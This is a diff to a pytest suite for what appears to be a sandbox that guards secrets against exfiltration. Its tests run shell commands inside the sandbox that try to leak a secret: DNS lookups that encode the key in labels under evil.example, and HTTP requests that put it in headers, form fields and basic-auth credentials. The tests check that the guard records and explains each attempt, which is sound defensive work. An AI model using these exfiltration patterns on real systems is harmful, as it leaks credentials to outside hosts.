@@ -236,7 +236,9 @@ def test_and_what_is_in_a_name(online, size, script, kind):
 def test_a_name_that_is_like_it_is_none(online):
     """All but its last byte, and in another order."""
     give(online, canary())
-    sh(online, "getent ahostsv4 ${KEY%?}.evil.example; getent ahostsv4 ${KEY#????}.${KEY%?}.evil.example; true")
+    # The next label must not begin with the byte that is left out.
+    sh(online, "to=evil; case $KEY in *e) to=bad;; esac; getent ahostsv4 ${KEY%?}.$to.example; "
+               "getent ahostsv4 ${KEY#????}.${KEY%?}.$to.example; true")
     assert {e["why"] for e in online.events(type="dns")} == {"no-rule"}
 
 
@@ -268,11 +270,13 @@ while s.recv(65536): pass
 
 def test_what_people_are_told_of_it(online):
     give(online, canary())
-    sh(online, fetch('-H "X-Other: $KEY"', f"{UP}/echo"))
+    _, _, answer = sh(online, fetch('-H "X-Other: $KEY"', f"{UP}/echo"))
+    assert "`-s NAME@HOST:PORT`" in json.loads(answer)["hint"]
     assert "exfiltration: a placeholder is where it may not be" in online.operator.cloister("events", online.cell).ok()
     said = online.operator.cloister("why", online.cell).ok()
     assert "the placeholder of the secret 'KEY' is in a header" in said
     assert "would allow it" not in said         # no rule does
+    assert "`-s NAME@HOST:PORT`" in said
 
 
 def test_what_comes_back_has_nothing_of_it(online):
@@ -410,7 +414,9 @@ def strays(pid, needle):
     '--http1.1 -H "Authorization: Bearer $KEY"', '--http2 -H "Authorization: Bearer $KEY"',
     '--http2 -d "key=$KEY"', '-u "me:$KEY" -d "{\\"a\\": \\"$KEY\\"}"',
     '-H "transfer-encoding: chunked" --data-binary @large', '-d @large',
-], ids=["header", "h2", "form", "basic", "stream", "held"])
+    '-H "Authorization: Bearer $KEY" -d a=b', '-H "Authorization: Bearer $KEY" -d @large',
+    '-H "Authorization: Bearer $KEY" -H "transfer-encoding: chunked" --data-binary @large',
+], ids=["header", "h2", "form", "basic", "stream", "held", "header-form", "header-held", "header-stream"])
 @pytest.mark.parametrize("host", ["up.example.test", "www.example.test/up"], ids=["1.1", "2"])
 def test_nothing_of_it_stays_behind(online, words, host):
     """After a request the value is in guarded memory, and nowhere else in the courier."""
@@ -422,8 +428,9 @@ def test_nothing_of_it_stays_behind(online, words, host):
                  'touch done; exec sleep 1000', options=("-s", "KEY"))
     wait_until(lambda: online.inside("test", "-e", "done").status == 0, "the request has been made")
     wait_until(lambda: online.events(type="http"), "it is recorded")
+    pid = helpers_of(online.operator, online.cell)["courier"]
     try:
-        found = strays(helpers_of(online.operator, online.cell)["courier"], real.encode())
+        found = strays(pid, real.encode()) + strays(pid, base64.b64encode(f"me:{real}".encode()))
     except OSError:
         pytest.skip("only root may look into processes")
     assert not found
@@ -677,4 +684,4 @@ def test_one_that_is_not_there(online):
 
 
 def test_without_a_policy_it_is_of_no_use(operator):
-    operator.run("-s", "KEY@a.example", "--", "true").sentence("without a policy")
+    operator.run("-s", "KEY@a.example", "--", "true").sentence("needs a policy")
